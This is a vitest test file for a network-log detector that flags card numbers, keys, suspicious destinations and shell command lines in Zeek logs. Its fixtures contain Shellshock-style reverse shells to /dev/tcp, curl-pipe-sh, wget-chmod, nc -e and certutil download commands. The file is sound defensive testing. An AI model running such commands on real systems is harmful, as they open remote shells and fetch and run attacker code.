import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pack, unpack } from 'msgpackr';
import { afterAll, describe, expect, it } from 'vitest';
import { planRun } from '../../src/coordinator/options.js';
import type { ShardOutput } from '../../src/detect/analyzer.js';
import {
  CONTENT_EVICTION_NAMES,
  type ContentConfig,
  type ContentOptions,
  contentAnalyzer,
  DEFAULT_CONTENT_NUMBERS,
  MAX_DESTINATIONS_FILE_BYTES,
  validateContentConfig,
} from '../../src/detect/content.js';
import type { Finding } from '../../src/detect/finding.js';
import { BUILTIN_DESTINATIONS } from '../../src/detect/suspicious-destinations.js';
import { ErrorCode, NetscryError } from '../../src/shared/errors.js';
import type { BatchView } from '../../src/shared/record.js';
import { connBatch, observeAll } from '../helpers/records.js';
import { ID_FIELDS, ID_TYPES, zeekHeaderText } from '../helpers/zeek-text.js';
import { zeekViews } from '../helpers/zeek-views.js';

const cfg = (over: ContentOptions = {}): ContentConfig => validateContentConfig(over);
const T0 = 1_700_000_000; // 2023-11-14T22:13:20Z; the hour starts at 1_699_999_200
const HOUR0 = Math.floor(T0 / 3600) * 3600;

const CARD = '4111111111111111';
const CARD2 = '5500000000000004';
const AWS = 'AKIAIOSFODNN7EXAMPLE';

const header = zeekHeaderText;

const ID = ID_FIELDS;
const ID_T = ID_TYPES;

interface HttpSpec {
  ts: number;
  uid?: string;
  orig?: string;
  resp?: string;
  host?: string;
  uri?: string;
  referrer?: string;
  ua?: string;
}

function httpLog(rows: HttpSpec[]): string {
  const head = header(
    'http',
    [...ID, 'trans_depth', 'method', 'host', 'uri', 'referrer', 'user_agent', 'status_code'],
    [...ID_T, 'count', 'string', 'string', 'string', 'string', 'string', 'count'],
  );
  const lines = rows.map((r, k) =>
    [
      r.ts.toFixed(6),
      r.uid ?? `CH${k}`,
      r.orig ?? '10.0.0.5',
      40_000 + k,
      r.resp ?? '203.0.113.9',
      80,
      1,
      'GET',
      r.host ?? 'shop.example.com',
      r.uri ?? '/',
      r.referrer ?? '-',
      r.ua ?? 'Mozilla/5.0',
      200,
    ].join('\t'),
  );
  return `${head}\n${lines.join('\n')}\n`;
}

function dnsLog(rows: { ts: number; query: string; orig?: string; uid?: string }[]): string {
  const head = header('dns', [...ID, 'proto', 'query', 'qtype_name'], [...ID_T, 'enum', 'string', 'string']);
  const lines = rows.map((r, k) =>
    [
      r.ts.toFixed(6),
      r.uid ?? `CD${k}`,
      r.orig ?? '10.0.0.5',
      50_000 + k,
      '10.0.0.1',
      53,
      'udp',
      r.query,
      'A',
    ].join('\t'),
  );
  return `${head}\n${lines.join('\n')}\n`;
}

function sslLog(rows: { ts: number; sni: string; orig?: string; resp?: string }[]): string {
  const head = header('ssl', [...ID, 'version', 'server_name'], [...ID_T, 'string', 'string']);
  const lines = rows.map((r, k) =>
    [
      r.ts.toFixed(6),
      `CS${k}`,
      r.orig ?? '10.0.0.5',
      51_000 + k,
      r.resp ?? '198.51.100.7',
      443,
      'TLSv13',
      r.sni,
    ].join('\t'),
  );
  return `${head}\n${lines.join('\n')}\n`;
}

function run(views: readonly BatchView[], config: ContentConfig = cfg()): ShardOutput {
  const a = contentAnalyzer.create(0, config);
  observeAll(a, views);
  return a.finish();
}

const of = (out: ShardOutput, detector: string): Finding[] =>
  out.findings.filter((f) => f.detector === detector);

describe('content.sensitive-data', () => {
  it('reports card numbers and keys in URIs, masked, per (source, destination, kind)', () => {
    const out = run(
      zeekViews(
        httpLog([
          { ts: T0, uid: 'CA1', uri: `/checkout?cc=${CARD}&exp=0127` },
          { ts: T0 + 60, uid: 'CA2', uri: `/checkout?cc=${CARD2.replace(/(\d{4})(?=\d)/g, '$1-')}` },
          { ts: T0 + 120, uid: 'CA3', uri: `/api/sync?access_key=${AWS}` },
          { ts: T0 + 180, uid: 'CA4', uri: '/index.html' },
        ]),
      ),
    );
    const found = of(out, 'content.sensitive-data');
    expect(found).toHaveLength(2);
    const card = found.find((f) => f.evidence.kind === 'card')!;
    expect(card.attack).toBe('T1048');
    expect(card.severity).toBe('high');
    expect(card.entities).toEqual({ src: '10.0.0.5', dst: '203.0.113.9' });
    expect(card.firstTs).toBeCloseTo(T0);
    expect(card.lastTs).toBeCloseTo(T0 + 60);
    expect(card.evidence).toMatchObject({
      kind: 'card',
      count: 2,
      fields: ['uri'],
      distinctValues: 2,
      values: ['************1111', '************0004'],
      samples: [
        { field: 'uri', value: '************1111', uid: 'CA1' },
        { field: 'uri', value: '************0004', uid: 'CA2' },
      ],
      hosts: ['shop.example.com'],
      windowStart: HOUR0,
      windowSeconds: 3600,
    });
    expect(card.summary).toContain('************1111');
    const key = found.find((f) => f.evidence.kind === 'aws-access-key')!;
    expect(key.attack).toBe('T1552');
    expect(key.evidence.samples).toEqual([{ field: 'uri', value: '****************MPLE', uid: 'CA3' }]);
    // Nothing but the last four characters anywhere in the output.
    const text = JSON.stringify(out);
    for (const secret of [CARD, CARD.slice(0, 12), CARD2.slice(0, 12), AWS.slice(0, 16)]) {
      expect(text).not.toContain(secret);
    }
  });

  it('keeps raw values out of snapshots too', () => {
    const a = contentAnalyzer.create(0, cfg());
    observeAll(a, zeekViews(httpLog([{ ts: T0, uri: `/p?cc=${CARD}&k=${AWS}` }])));
    const snap = JSON.stringify(a.snapshot());
    expect(snap).toContain('************1111');
    expect(snap).not.toContain(CARD.slice(0, 12));
    expect(snap).not.toContain(AWS.slice(0, 16));
  });

  it('looks at Host, Referer, User-Agent and DNS names, percent-decoded', () => {
    const out = run([
      ...zeekViews(
        httpLog([
          { ts: T0, referrer: `http://a.test/?t=-----BEGIN%20RSA%20PRIVATE%20KEY-----` },
          { ts: T0 + 1, ua: `bot xoxb-1234567890-abcdefghij` },
          { ts: T0 + 2, host: `${CARD}.leak.test` },
        ]),
      ),
      ...zeekViews(dnsLog([{ ts: T0 + 3, query: `512-34-6789.${CARD}.exfil.test` }])),
    ]);
    const byKind = Object.fromEntries(
      of(out, 'content.sensitive-data').map((f) => [`${f.evidence.kind}`, f]),
    );
    expect(byKind['private-key']!.evidence.fields).toEqual(['referrer']);
    expect(byKind['private-key']!.severity).toBe('critical');
    expect(byKind['slack-token']!.evidence.fields).toEqual(['user_agent']);
    expect(byKind.ssn!.evidence.fields).toEqual(['query']);
    expect(byKind.ssn!.entities.dst).toBe('10.0.0.1');
    // The card in the Host header and in the DNS name: two destinations, two findings.
    const cards = of(out, 'content.sensitive-data').filter((f) => f.evidence.kind === 'card');
    expect(cards.map((f) => f.evidence.fields)).toEqual([['host'], ['query']]);
  });

  it('opens a new finding per window', () => {
    const out = run(
      zeekViews(
        httpLog([
          { ts: HOUR0 + 10, uri: `/p?cc=${CARD}` },
          { ts: HOUR0 + 3599, uri: `/p?cc=${CARD}` },
          { ts: HOUR0 + 3600, uri: `/p?cc=${CARD}` },
        ]),
      ),
    );
    expect(of(out, 'content.sensitive-data').map((f) => f.evidence.count)).toEqual([2, 1]);
    const short = run(
      zeekViews(
        httpLog([
          { ts: HOUR0 + 10, uri: `/p?cc=${CARD}` },
          { ts: HOUR0 + 70, uri: `/p?cc=${CARD}` },
        ]),
      ),
      cfg({ windowSeconds: 60 }),
    );
    expect(of(short, 'content.sensitive-data')).toHaveLength(2);
  });

  it('bounds samples and distinct values', () => {
    const rows = Array.from({ length: 90 }, (_, k) => ({
      ts: T0 + k,
      uri: `/p?cc=4111111111111${String(k).padStart(3, '0')}`,
    })).filter((r) => /cc=(\d+)/.test(r.uri));
    const out = run(zeekViews(httpLog(rows)), cfg({ sampleSize: 3 }));
    const [f] = of(out, 'content.sensitive-data');
    expect(f!.evidence.samples).toHaveLength(3);
    expect((f!.evidence.values as string[]).length).toBe(3);
    expect(f!.evidence.distinctValues as number).toBeLessThanOrEqual(64);
    expect(f!.evidence.count as number).toBeGreaterThan(3);
  });

  it('finds blobs only when enabled, with the configured length', () => {
    const blob = Buffer.from(Array.from({ length: 60 }, (_, k) => (k * 151 + 7) % 256)).toString('base64'); // 80 chars
    const views = zeekViews(httpLog([{ ts: T0, uri: `/up?d=${encodeURIComponent(blob)}` }]));
    expect(of(run(views), 'content.sensitive-data')).toHaveLength(0);
    const found = of(run(views, cfg({ minBlobLength: 64 })), 'content.sensitive-data');
    expect(found.map((f) => f.evidence.kind)).toEqual(['base64-blob']);
    expect(found[0]!.severity).toBe('low');
    expect(
      of(run(views, cfg({ minBlobLength: 64, enableBlobs: false })), 'content.sensitive-data'),
    ).toHaveLength(0);
  });
});

describe('content.suspicious-destination', () => {
  it('matches DNS names, SNI and HTTP Host (+ URI) per (source, entry)', () => {
    const out = run([
      ...zeekViews(
        dnsLog([
          { ts: T0, query: 'pastebin.com', uid: 'Q1' },
          { ts: T0 + 5, query: 'PASTEBIN.com', uid: 'Q2' },
          { ts: T0 + 6, query: 'abc123.ngrok-free.app' },
          { ts: T0 + 7, query: 'www.example.com' },
          { ts: T0 + 8, query: 'discord.com' },
        ]),
      ),
      ...zeekViews(
        sslLog([
          { ts: T0 + 10, sni: 'abc123.ngrok-free.app' },
          { ts: T0 + 11, sni: 'example.org' },
        ]),
      ),
      ...zeekViews(
        httpLog([
          { ts: T0 + 20, host: 'discord.com', uri: '/api/webhooks/1/xyz', resp: '162.159.135.232' },
          { ts: T0 + 21, host: 'discord.com', uri: '/channels/1' },
          { ts: T0 + 22, host: 'free-prizes.tk:8080' },
        ]),
      ),
    ]);
    const found = of(out, 'content.suspicious-destination');
    const byEntry = Object.fromEntries(found.map((f) => [f.entities.entry as string, f]));
    expect(Object.keys(byEntry).sort()).toEqual([
      'discord.com/api/webhooks',
      'ngrok-free.app',
      'pastebin.com',
      'tk',
    ]);
    expect(byEntry['pastebin.com']!.evidence).toMatchObject({
      entry: 'pastebin.com',
      category: 'paste',
      count: 2,
      fields: ['query'],
      names: ['pastebin.com'],
      samples: [
        { field: 'query', value: 'pastebin.com', uid: 'Q1' },
        { field: 'query', value: 'pastebin.com', uid: 'Q2' },
      ],
    });
    expect(byEntry['pastebin.com']!.attack).toBe('T1567');
    const tunnel = byEntry['ngrok-free.app']!;
    expect(tunnel.attack).toBe('T1572');
    expect(tunnel.entities).toEqual({
      src: '10.0.0.5',
      dst: ['10.0.0.1', '198.51.100.7'],
      entry: 'ngrok-free.app',
    });
    expect(tunnel.evidence.fields).toEqual(['query', 'server_name']);
    expect(byEntry['discord.com/api/webhooks']!.attack).toBe('T1102');
    expect(byEntry.tk!.attack).toBe('T1583.001');
    expect(byEntry.tk!.severity).toBe('low');
    expect(byEntry.tk!.evidence.names).toEqual(['free-prizes.tk:8080']);
  });

  it('uses a list extended or replaced from text or a file', () => {
    const dir = mkdtempSync(join(tmpdir(), 'netscry-content-'));
    try {
      const file = join(dir, 'list.txt');
      writeFileSync(file, '# ours\nbad-actor.test c2\n');
      const views = zeekViews(
        dnsLog([
          { ts: T0, query: 'x.bad-actor.test' },
          { ts: T0 + 1, query: 'pastebin.com' },
          { ts: T0 + 2, query: 'evil.test' },
        ]),
      );
      const entries = (c: ContentConfig): string[] =>
        of(run(views, c), 'content.suspicious-destination')
          .map((f) => f.entities.entry as string)
          .sort();
      expect(entries(cfg())).toEqual(['pastebin.com']);
      expect(entries(cfg({ destinationsFile: file }))).toEqual(['bad-actor.test', 'pastebin.com']);
      expect(entries(cfg({ destinationsFile: file, replaceDestinations: true }))).toEqual(['bad-actor.test']);
      expect(entries(cfg({ destinations: 'evil.test', replaceDestinations: true }))).toEqual(['evil.test']);
      const custom = of(
        run(views, cfg({ destinations: 'evil.test' })),
        'content.suspicious-destination',
      ).find((f) => f.entities.entry === 'evil.test')!;
      expect(custom.evidence.category).toBe('custom');
      expect(custom.attack).toBe('T1102');
      expect(custom.severity).toBe('medium');
      const c2 = of(run(views, cfg({ destinationsFile: file })), 'content.suspicious-destination').find(
        (f) => f.entities.entry === 'bad-actor.test',
      )!;
      expect(c2.evidence.category).toBe('c2');
      // The validated config carries the entries, not the path: plain data for the workers.
      const c = cfg({ destinationsFile: file });
      expect(c.destinationList.length).toBe(BUILTIN_DESTINATIONS.length + 1);
      expect(JSON.parse(JSON.stringify(c))).toEqual(c);
      expect(c).not.toHaveProperty('destinationsFile');
      // Errors name the option and, for a bad line, the file and line.
      writeFileSync(file, 'ok.test\nnot a domain at all\n');
      expect(() => cfg({ destinationsFile: file })).toThrow(/content\.destinationsFile .*list\.txt:2/);
      expect(() => cfg({ destinationsFile: join(dir, 'missing.txt') })).toThrow(
        /destinationsFile cannot be read/,
      );
      writeFileSync(file, Buffer.alloc(MAX_DESTINATIONS_FILE_BYTES + 1, 0x61));
      expect(() => cfg({ destinationsFile: file })).toThrow(/larger than/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('content.command', () => {
  it('finds command lines in URIs and user agents, percent-decoded', () => {
    const out = run(
      zeekViews(
        httpLog([
          {
            ts: T0,
            orig: '198.51.100.66',
            resp: '10.0.0.80',
            uid: 'CX1',
            uri: '/cgi-bin/status?x=%28%29+%7B+%3A%3B+%7D%3B+bash+-i+%3E%26+%2Fdev%2Ftcp%2F198.51.100.66%2F4444+0%3E%261',
          },
          {
            ts: T0 + 5,
            orig: '198.51.100.66',
            resp: '10.0.0.80',
            ua: '() { :; }; curl -s http://198.51.100.66/x.sh | sh',
          },
        ]),
      ),
    );
    const found = of(out, 'content.command');
    expect(found.map((f) => f.evidence.kind).sort()).toEqual(['dev-tcp', 'download-pipe-shell']);
    const tcp = found.find((f) => f.evidence.kind === 'dev-tcp')!;
    // An inbound record is seen twice by the shards; counted once, for its originator.
    expect(tcp.entities).toEqual({ src: '198.51.100.66', dst: '10.0.0.80' });
    expect(tcp.evidence).toMatchObject({
      count: 1,
      fields: ['uri'],
      commands: ['/dev/tcp/198.51.100.66/4444'],
      samples: [{ field: 'uri', value: '/dev/tcp/198.51.100.66/4444', uid: 'CX1' }],
      hosts: ['shop.example.com'],
    });
    expect(tcp.attack).toBe('T1059');
    expect(tcp.summary).toContain('dev-tcp');
  });

  it('reads FTP arguments and SMTP subjects', () => {
    const ftp = `${header('ftp', [...ID, 'command', 'arg'], [...ID_T, 'string', 'string'])}\n${[
      T0.toFixed(6),
      'CF1',
      '10.0.0.5',
      40_001,
      '10.0.0.21',
      21,
      'SITE',
      'exec wget http://x/y -O /tmp/y && chmod +x /tmp/y',
    ].join('\t')}\n`;
    const smtp = `${header('smtp', [...ID, 'subject'], [...ID_T, 'string'])}\n${[
      (T0 + 1).toFixed(6),
      'CM1',
      '10.0.0.5',
      40_002,
      '10.0.0.25',
      25,
      `invoice card ${CARD}`,
    ].join('\t')}\n${[(T0 + 2).toFixed(6), 'CM2', '10.0.0.5', 40_003, '10.0.0.25', 25, '-'].join('\t')}\n`;
    const other = `${header('weird', [...ID, 'name'], [...ID_T, 'string'])}\n${[
      (T0 + 3).toFixed(6),
      'CW1',
      '10.0.0.5',
      40_004,
      '10.0.0.25',
      25,
      `x ${CARD}`,
    ].join('\t')}\n`;
    const out = run([...zeekViews(ftp), ...zeekViews(smtp), ...zeekViews(other)]);
    expect(of(out, 'content.command').map((f) => [f.evidence.kind, f.evidence.fields])).toEqual([
      ['download-chmod', ['arg']],
    ]);
    expect(of(out, 'content.sensitive-data').map((f) => [f.evidence.kind, f.evidence.fields])).toEqual([
      ['card', ['subject']],
    ]);
  });
});

function payloadLog(
  rows: {
    ts: number;
    orig?: boolean;
    kind: string;
    pattern: string;
    value: string;
    length?: number;
    uid?: string;
  }[],
): string {
  const head = header(
    'payload',
    [...ID, 'proto', 'is_orig', 'kind', 'pattern', 'value', 'length', 'offset'],
    [...ID_T, 'enum', 'bool', 'string', 'string', 'string', 'count', 'count'],
  );
  const lines = rows.map((r, k) =>
    [
      r.ts.toFixed(6),
      r.uid ?? `CP${k}`,
      '10.0.0.5',
      52_000 + k,
      '203.0.113.9',
      4444,
      'tcp',
      r.orig === false ? 'F' : 'T',
      r.kind,
      r.pattern,
      r.value,
      r.length ?? r.value.length,
      10 * k,
    ].join('\t'),
  );
  return `${head}\n${lines.join('\n')}\n`;
}

describe('payload.log records', () => {
  const rows = [
    { ts: T0, kind: 'card', pattern: 'card', value: '************1111', uid: 'CP-card' },
    // A hand-made log with a raw value: masked here all the same.
    { ts: T0 + 1, kind: 'card', pattern: 'card', value: CARD2 },
    { ts: T0 + 2, orig: false, kind: 'jwt', pattern: 'jwt', value: '****************abcd' },
    { ts: T0 + 3, kind: 'blob', pattern: 'base64-blob', value: '****************Zz==', length: 100 },
    { ts: T0 + 4, kind: 'blob', pattern: 'hex-blob', value: '****************beef', length: 300 },
    {
      ts: T0 + 5,
      orig: false,
      kind: 'reverse-shell',
      pattern: 'dev-tcp',
      value: '/dev/tcp/203.0.113.9/4444',
    },
    {
      ts: T0 + 6,
      kind: 'download-exec',
      pattern: 'certutil-download',
      value: `certutil -urlcache -f http://x/${CARD}`,
    },
    { ts: T0 + 7, kind: 'other', pattern: 'no-such-pattern', value: 'whatever' },
    { ts: T0 + 8, kind: 'card', pattern: 'card', value: '' },
  ];

  it('reports sensitive values and commands from payloads, with directions, masked', () => {
    const out = run(zeekViews(payloadLog(rows)));
    const cards = of(out, 'content.sensitive-data').find((f) => f.evidence.kind === 'card')!;
    expect(cards.evidence).toMatchObject({
      count: 2,
      fields: ['payload'],
      directions: ['orig'],
      values: ['************1111', '************0004'],
    });
    expect(cards.summary).toContain('10.0.0.5 sent 2 card values in clear text to 203.0.113.9 in payload');
    const jwt = of(out, 'content.sensitive-data').find((f) => f.evidence.kind === 'jwt')!;
    expect(jwt.evidence.directions).toEqual(['resp']);
    expect(jwt.summary).toContain('10.0.0.5 received 1 jwt value in clear text from 203.0.113.9');
    // Blobs follow enableBlobs and minBlobLength (128 by default): the 100-character one is out.
    const blobs = of(out, 'content.sensitive-data').filter((f) => String(f.evidence.kind).endsWith('blob'));
    expect(blobs.map((f) => f.evidence.kind)).toEqual(['hex-blob']);
    const commands = of(out, 'content.command');
    expect(commands.map((f) => [f.evidence.kind, f.evidence.family, f.attack, f.severity])).toEqual([
      ['dev-tcp', 'reverse-shell', 'T1059', 'high'],
      ['certutil-download', 'download-exec', 'T1105', 'high'],
    ]);
    expect(commands[0]!.summary).toContain(
      'received a dev-tcp command line (reverse-shell) from 203.0.113.9',
    );
    expect(commands[1]!.evidence.commands).toEqual(['certutil -urlcache -f http://x/************1111']);
    expect(JSON.stringify(out)).not.toContain(CARD);
    expect(JSON.stringify(out)).not.toContain(CARD2);
  });

  it('follows the switches', () => {
    const none = run(zeekViews(payloadLog(rows)), cfg({ enableSensitiveData: false, enableCommands: false }));
    expect(none.findings).toEqual([]);
    const noBlobs = run(zeekViews(payloadLog(rows)), cfg({ enableBlobs: false }));
    expect(of(noBlobs, 'content.sensitive-data').map((f) => f.evidence.kind)).toEqual(['card', 'jwt']);
    const shortBlobs = run(zeekViews(payloadLog(rows)), cfg({ minBlobLength: 64 }));
    expect(of(shortBlobs, 'content.sensitive-data').length).toBe(4);
  });
});

describe('switches, caps and odd records', () => {
  const mixed = (): BatchView[] => [
    ...zeekViews(httpLog([{ ts: T0, uri: `/p?cc=${CARD}&c=nc -e /bin/sh 1.2.3.4 9`, host: 'pastebin.com' }])),
  ];

  it('turns each family off on its own', () => {
    const families = (c: ContentConfig): string[] =>
      [...new Set(run(mixed(), c).findings.map((f) => f.detector))].sort();
    expect(families(cfg())).toEqual([
      'content.command',
      'content.sensitive-data',
      'content.suspicious-destination',
    ]);
    expect(families(cfg({ enableSensitiveData: false }))).toEqual([
      'content.command',
      'content.suspicious-destination',
    ]);
    expect(families(cfg({ enableCommands: false }))).toEqual([
      'content.sensitive-data',
      'content.suspicious-destination',
    ]);
    expect(families(cfg({ enableDestinations: false }))).toEqual([
      'content.command',
      'content.sensitive-data',
    ]);
    const dnsTls = [
      ...zeekViews(dnsLog([{ ts: T0, query: `${CARD}.pastebin.com` }])),
      ...zeekViews(sslLog([{ ts: T0, sni: `${CARD}.pastebin.com` }])),
    ];
    expect(run(dnsTls, cfg({ enableSensitiveData: false })).findings.map((f) => f.detector)).toEqual([
      'content.suspicious-destination',
    ]);
    expect(run(dnsTls, cfg({ enableDestinations: false })).findings.map((f) => f.detector)).toEqual([
      'content.sensitive-data',
      'content.sensitive-data',
    ]);
    const generic = zeekViews(
      `${header('ftp', [...ID, 'arg'], [...ID_T, 'string'])}\n${[T0, 'C1', '10.0.0.5', 1, '10.0.0.6', 21, `nc -e /bin/sh x ${CARD}`].join('\t')}\n`,
    );
    expect(run(generic, cfg({ enableSensitiveData: false, enableCommands: false })).findings).toEqual([]);
  });

  it('cuts long fields and counts them', () => {
    const uri = `/p?pad=${'a'.repeat(400)}&cc=${CARD}`;
    const out = run(zeekViews(httpLog([{ ts: T0, uri }])), cfg({ maxFieldLength: 256 }));
    expect(out.evictions.maxFieldLength).toBe(1);
    expect(of(out, 'content.sensitive-data')).toHaveLength(0);
    expect(of(run(zeekViews(httpLog([{ ts: T0, uri }]))), 'content.sensitive-data')).toHaveLength(1);
  });

  it('reports the oldest group early when the cap is reached', () => {
    const rows = Array.from({ length: 5 }, (_, k) => ({
      ts: T0 + k,
      uri: `/p?cc=${CARD}`,
      resp: `203.0.113.${k + 1}`,
    }));
    rows.push({ ts: T0 + 10, uri: `/p?cc=${CARD}`, resp: '203.0.113.1' });
    const out = run(zeekViews(httpLog(rows)), cfg({ maxGroups: 2 }));
    expect(out.evictions.maxGroups).toBe(4);
    const found = of(out, 'content.sensitive-data');
    expect(found).toHaveLength(6);
    expect(found.reduce((n, f) => n + (f.evidence.count as number), 0)).toBe(6);
    expect(Object.keys(out.evictions).sort()).toEqual([...CONTENT_EVICTION_NAMES].sort());
  });

  it('ignores conn records, records without an originator or time, and unset fields', () => {
    const conn = connBatch([{ ts: T0, orig: '10.0.0.5', resp: '203.0.113.9', raw: CARD }]);
    const noOrig = zeekViews(
      `${header('http', ['ts', 'uid', 'id.resp_h', 'uri'], ['time', 'string', 'addr', 'string'])}\n${T0}\tC1\t203.0.113.9\t/p?cc=${CARD}\n`,
    );
    const noTs = zeekViews(httpLog([{ ts: T0, uri: `/p?cc=${CARD}` }]).replace(T0.toFixed(6), '-'));
    const unset = zeekViews(
      `${dnsLog([{ ts: T0, query: '-' }])}${sslLog([{ ts: T0, sni: '-' }])}${httpLog([{ ts: T0, uri: '-', host: '-', ua: '-' }])}`,
    );
    const noResp = zeekViews(
      `${header('http', ['ts', 'uid', 'id.orig_h', 'uri'], ['time', 'string', 'addr', 'string'])}\n${T0}\tC1\t10.0.0.5\t/p?cc=${CARD}\n`,
    );
    expect(run([conn, ...noOrig, ...noTs, ...unset]).findings).toEqual([]);
    const [f] = run(noResp).findings;
    expect(f!.entities).toEqual({ src: '10.0.0.5', dst: '-' });
    expect(f!.summary).toContain('to - in uri');
  });

  it('reads JSON logs and IPv6 addresses', () => {
    const line = JSON.stringify({
      _path: 'http',
      ts: T0,
      uid: 'CJ1',
      'id.orig_h': 'fd00::5',
      'id.orig_p': 40_000,
      'id.resp_h': '2001:db8::9',
      'id.resp_p': 80,
      host: 'shop.example.com',
      uri: `/p?k=${AWS}`,
      user_agent: null,
    });
    const [f] = run(zeekViews(`${line}\n`)).findings;
    expect(f!.entities).toEqual({ src: 'fd00::5', dst: '2001:db8::9' });
    expect(f!.evidence.kind).toBe('aws-access-key');
  });
});

describe('determinism, snapshot and restore', () => {
  const text =
    httpLog(
      Array.from({ length: 40 }, (_, k) => ({
        ts: T0 + k * 300,
        orig: `10.0.${k % 3}.5`,
        uri: k % 4 === 0 ? `/p?cc=${CARD}` : k % 4 === 1 ? `/x?c=curl http://a/b | sh` : `/k?t=${AWS}`,
        host: k % 5 === 0 ? 'pastebin.com' : 'shop.example.com',
      })),
    ) +
    dnsLog(
      Array.from({ length: 20 }, (_, k) => ({
        ts: T0 + k * 500,
        query: `h${k}.ngrok.io`,
        orig: `10.0.${k % 3}.5`,
      })),
    );

  it('gives the same output for every batch split and for observeRows', () => {
    const expected = run(zeekViews(text, { batchRecords: 64 }));
    expect(expected.findings.length).toBeGreaterThan(5);
    for (const size of [1, 7, 33]) expect(run(zeekViews(text, { batchRecords: size }))).toEqual(expected);
    const a = contentAnalyzer.create(0, cfg());
    for (const view of zeekViews(text, { batchRecords: 13 })) {
      const rows = Int32Array.from({ length: view.count + 2 }, (_, k) => k - 1);
      a.observeRows(view, rows, 1, view.count + 1);
    }
    expect(a.finish()).toEqual(expected);
  });

  it('restores an equivalent analyzer at every cut', () => {
    const c = cfg({ maxGroups: 4 });
    const batches = zeekViews(text, { batchRecords: 9 });
    const expected = run(batches, c);
    expect(expected.evictions.maxGroups).toBeGreaterThan(0);
    for (const cut of [0, 1, 3, batches.length - 1, batches.length]) {
      const first = contentAnalyzer.create(3, c);
      observeAll(first, batches.slice(0, cut));
      const second = contentAnalyzer.restore(3, c, unpack(pack(first.snapshot())));
      observeAll(second, batches.slice(cut));
      expect(second.finish()).toEqual(expected);
    }
  });

  it('rejects a foreign or mismatched snapshot', () => {
    const snap = contentAnalyzer.create(1, cfg()).snapshot();
    expect(() => contentAnalyzer.restore(2, cfg(), snap)).toThrow(/another virtual shard/);
    expect(() => contentAnalyzer.restore(1, cfg(), { version: 99 })).toThrow(NetscryError);
    expect(() => contentAnalyzer.restore(1, cfg(), null)).toThrow(/content: not an analyzer snapshot/);
    expect(
      contentAnalyzer.restore(1, cfg(), { ...(snap as object), evictions: {} }).finish().evictions,
    ).toEqual({
      maxGroups: 0,
      maxFieldLength: 0,
    });
  });

  it('merges partials trivially (no cross-shard state)', () => {
    expect(contentAnalyzer.merge([undefined, undefined])).toBeUndefined();
  });
});

describe('options', () => {
  it('fills defaults and refuses bad or unknown keys', () => {
    const c = cfg();
    expect(c).toMatchObject(DEFAULT_CONTENT_NUMBERS);
    expect(c.destinationList).toEqual(BUILTIN_DESTINATIONS);
    expect(Object.isFrozen(c)).toBe(true);
    const code = (f: () => unknown): string | undefined => {
      try {
        f();
      } catch (e) {
        return (e as NetscryError).code;
      }
      return undefined;
    };
    expect(code(() => cfg({ windowSeconds: 10 }))).toBe(ErrorCode.InvalidOption);
    expect(() => cfg({ nope: 1 } as ContentOptions)).toThrow(/content\.nope is not a content option/);
    expect(() => cfg({ destinationList: [] } as unknown as ContentOptions)).toThrow(/not a content option/);
    expect(() => validateContentConfig(null as unknown as ContentOptions)).toThrow(/must be an object/);
    expect(() => validateContentConfig([] as unknown as ContentOptions)).toThrow(/must be an object/);
    expect(() => cfg({ destinations: 3 } as unknown as ContentOptions)).toThrow(
      /content\.destinations must be/,
    );
    expect(() => cfg({ destinations: 'bad domain here' })).toThrow(/content\.destinations destinations:1/);
    expect(() => cfg({ destinationsFile: '' })).toThrow(/must be a file path/);
    expect(() => cfg({ replaceDestinations: true })).toThrow(/needs destinations or destinationsFile/);
    expect(validateContentConfig().windowSeconds).toBe(3600);
  });

  it('is on by default in a run and takes its options there', () => {
    const plan = planRun({ inputs: ['x.log'], actors: 0 });
    expect(plan.engine.detectors.map((d) => d.name)).toContain('content');
    const tuned = planRun({ inputs: ['x.log'], actors: 0, detectors: { content: { windowSeconds: 600 } } });
    const entry = tuned.engine.detectors.find((d) => d.name === 'content')!;
    expect((entry.config as ContentConfig).windowSeconds).toBe(600);
    expect(() =>
      planRun({ inputs: ['x.log'], actors: 0, detectors: { content: { minBlobLength: 1 } } }),
    ).toThrow(/content\.minBlobLength/);
    const off = planRun({ inputs: ['x.log'], actors: 0, detectors: { content: false } });
    expect(off.engine.detectors.map((d) => d.name)).not.toContain('content');
  });
});

afterAll(() => undefined);
